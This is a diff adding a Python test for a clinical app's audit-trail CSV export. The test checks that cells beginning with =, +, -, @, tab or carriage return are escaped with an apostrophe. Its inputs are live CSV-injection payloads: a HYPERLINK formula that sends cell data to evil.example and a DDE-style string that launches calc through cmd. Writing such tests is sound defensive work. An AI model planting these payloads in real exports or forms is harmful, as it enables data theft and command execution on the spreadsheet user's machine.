@@ -159,6 +159,22 @@ def test_the_csv_holds_the_filtered_rows(world, clinician, auditor):
     ]
 
 
+def test_the_csv_cannot_carry_a_formula_into_the_auditors_spreadsheet(auditor):
+    """Anyone may type a username at the sign-in page and send any User-Agent, and both go into the trail: a
+    cell starting with = + - @ (or a tab, a carriage return) would be a formula in the auditor's spreadsheet.
+    Such a cell is written with a leading apostrophe, the rest as it was."""
+    formula, agent = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    Client(HTTP_USER_AGENT=agent).post("/login/", {"username": formula, "password": "wrong"})
+    Client(HTTP_USER_AGENT="\t-2+3").post("/login/", {"username": "+1-555", "password": "wrong"})
+    response = signed_in(auditor).get("/audit/export.csv", {"action": "sign_in.failed"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted((r["username"], r["user_agent"]) for r in rows) == [
+        ("'+1-555", "'\t-2+3"),
+        ("'" + formula, "'" + agent),
+    ]
+    assert not any(value[:1] in "=+-@\t\r" for row in rows for value in row.values() if value)
+
+
 def test_only_auditors_and_administrators_read_the_trail(clinician, staff, auditor, administrator, outsider):
     for user in (clinician, staff):
         assert signed_in(user).get("/audit/").status_code == 403
